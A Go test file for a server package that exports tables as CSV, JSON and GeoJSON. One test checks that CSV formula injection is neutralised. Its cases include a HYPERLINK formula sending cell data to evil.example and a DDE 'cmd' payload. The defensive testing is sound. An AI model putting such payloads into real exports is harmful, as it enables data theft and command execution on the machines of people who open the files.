package table

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"citymap/server/respond"
)

func sample() *Table {
	cst := time.FixedZone("CST", 8*3600)
	return &Table{
		Columns: []string{"code", "name", "new", "rate", "at"},
		Rows: [][]any{
			{"320282001", "宜城街道,东区", int64(12), 0.5, time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)},
			{"320282002", `屺亭"街道"`, int64(0), nil, nil},
		},
		Geometry: []json.RawMessage{json.RawMessage(`{"type":"Point","coordinates":[119.8,31.3]}`), nil},
		IDColumn: "code",
		Meta:     map[string]any{"report": "areas"},
		Zone:     cst,
	}
}

func write(t *testing.T, f Format) *httptest.ResponseRecorder {
	t.Helper()
	w := httptest.NewRecorder()
	if err := Write(w, f, sample(), "areas_20261101"); err != nil {
		t.Fatal(err)
	}
	return w
}

func TestCSV(t *testing.T) {
	w := write(t, CSV)
	body := w.Body.Bytes()
	if !bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no byte order mark: %q", body[:min(len(body), 10)])
	}
	if ct := w.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := w.Header().Get("Content-Disposition"); cd != `attachment; filename="areas_20261101.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	records, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"code", "name", "new", "rate", "at"},
		{"320282001", "宜城街道,东区", "12", "0.5", "2026-11-01T08:00:00+08:00"},
		{"320282002", `屺亭"街道"`, "0", "", ""},
	}
	if len(records) != len(want) {
		t.Fatalf("%d records, want %d", len(records), len(want))
	}
	for i := range want {
		if strings.Join(records[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("record %d: %q, want %q", i, records[i], want[i])
		}
	}
	if !strings.Contains(string(body), "\"宜城街道,东区\"") || !strings.Contains(string(body), "\r\n") {
		t.Errorf("text with a comma is not quoted or lines do not end in CRLF:\n%s", body)
	}
}

// TestCSVFormulas: text that a spreadsheet would take for a formula is written
// with a leading quote; numbers, negative ones too, and other text as they are;
// JSON keeps the values as they are.
func TestCSVFormulas(t *testing.T) {
	cases := []struct {
		name  string
		value any
		want  string
	}{
		{"equals", `=HYPERLINK("http://evil.example/?d="&A1,"点此")`, `'=HYPERLINK("http://evil.example/?d="&A1,"点此")`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		// encoding/csv drops a lone CR when it writes CRLF lines: unquoted, this
		// field would reach the file as =1+1
		{"carriage return", "\r=1+1", "'=1+1"},
		{"negative number as text", "-3.5", "'-3.5"},
		{"formula sign inside", "A=B+C@D", "A=B+C@D"},
		{"leading space", " =1", " =1"},
		{"plain", "宜城街道停车场", "宜城街道停车场"},
		{"empty", "", ""},
		{"already quoted", "'=1", "'=1"},
		{"negative float", -3.5, "-3.5"},
		{"negative integer", int64(-2), "-2"},
		{"null", nil, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			tb := &Table{Columns: []string{"v", "n"}, Rows: [][]any{{c.value, int64(1)}}}
			w := httptest.NewRecorder()
			if err := Write(w, CSV, tb, ""); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(bytes.NewReader(w.Body.Bytes()[3:])).ReadAll()
			if err != nil || len(records) != 2 {
				t.Fatalf("records %q: %v", records, err)
			}
			if got := records[1][0]; got != c.want {
				t.Errorf("CSV field %q, want %q", got, c.want)
			}
			w = httptest.NewRecorder()
			if err := Write(w, JSON, tb, ""); err != nil {
				t.Fatal(err)
			}
			var doc struct{ Rows []map[string]json.RawMessage }
			if err := json.Unmarshal(w.Body.Bytes(), &doc); err != nil || len(doc.Rows) != 1 {
				t.Fatalf("JSON %s: %v", w.Body, err)
			}
			if want, _ := json.Marshal(c.value); string(doc.Rows[0]["v"]) != string(want) {
				t.Errorf("JSON value %s, want %s", doc.Rows[0]["v"], want)
			}
		})
	}
}

func TestJSON(t *testing.T) {
	w := write(t, JSON)
	want := `{"report":"areas","rows":[` +
		`{"code":"320282001","name":"宜城街道,东区","new":12,"rate":0.5,"at":"2026-11-01T08:00:00+08:00"},` +
		`{"code":"320282002","name":"屺亭\"街道\"","new":0,"rate":null,"at":null}]}` + "\n"
	if got := w.Body.String(); got != want {
		t.Errorf("JSON\n%s\nwant\n%s", got, want)
	}
	if ct := w.Header().Get("Content-Type"); ct != "application/json; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
}

func TestGeoJSON(t *testing.T) {
	w := write(t, GeoJSON)
	var fc struct {
		Type     string `json:"type"`
		Report   string `json:"report"`
		Features []struct {
			Type       string          `json:"type"`
			ID         string          `json:"id"`
			Geometry   json.RawMessage `json:"geometry"`
			Properties map[string]any  `json:"properties"`
		} `json:"features"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &fc); err != nil {
		t.Fatalf("%v\n%s", err, w.Body)
	}
	if fc.Type != "FeatureCollection" || fc.Report != "areas" || len(fc.Features) != 2 {
		t.Fatalf("collection %+v", fc)
	}
	f := fc.Features[0]
	if f.Type != "Feature" || f.ID != "320282001" || f.Properties["name"] != "宜城街道,东区" ||
		string(f.Geometry) != `{"type":"Point","coordinates":[119.8,31.3]}` {
		t.Errorf("feature %+v", f)
	}
	if string(fc.Features[1].Geometry) != "null" {
		t.Errorf("a row without geometry: %s", fc.Features[1].Geometry)
	}
	if ct := w.Header().Get("Content-Type"); ct != "application/geo+json" {
		t.Errorf("Content-Type %q", ct)
	}
	noGeo := sample()
	noGeo.Geometry = nil
	if err := Write(httptest.NewRecorder(), GeoJSON, noGeo, ""); err == nil {
		t.Error("GeoJSON of a table without geometry")
	}
}

func TestNegotiate(t *testing.T) {
	cases := []struct {
		query, accept string
		geo           bool
		want          Format
		status        int
	}{
		{"", "", true, JSON, 0},
		{"", "*/*", true, JSON, 0},
		{"", "text/csv", true, CSV, 0},
		{"", "application/geo+json", true, GeoJSON, 0},
		{"", "application/geo+json", false, "", 406},
		{"", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", false, JSON, 0},
		{"", "application/json;q=0.5, text/csv", false, CSV, 0},
		{"", "text/*;q=0.9, application/json;q=0.2", true, CSV, 0},
		{"", "application/*", true, JSON, 0},
		{"", "application/xml", true, "", 406},
		{"", "text/csv;q=0, */*", true, JSON, 0},
		{"format=json", "text/csv", true, JSON, 0},
		{"format=csv", "application/json", true, CSV, 0},
		{"format=geojson", "", true, GeoJSON, 0},
		{"format=GeoJSON", "", true, GeoJSON, 0},
		{"format=geojson", "", false, "", 400},
		{"format=xlsx", "", true, "", 400},
	}
	for _, c := range cases {
		r := httptest.NewRequest("GET", "/x?"+c.query, nil)
		if c.accept != "" {
			r.Header.Set("Accept", c.accept)
		}
		got, err := Negotiate(r, c.geo)
		var re *respond.Error
		switch {
		case c.status == 0 && (err != nil || got != c.want):
			t.Errorf("%q Accept %q: %q %v, want %q", c.query, c.accept, got, err, c.want)
		case c.status != 0 && (!errors.As(err, &re) || re.Status != c.status):
			t.Errorf("%q Accept %q: %q %v, want status %d", c.query, c.accept, got, err, c.status)
		}
	}
}
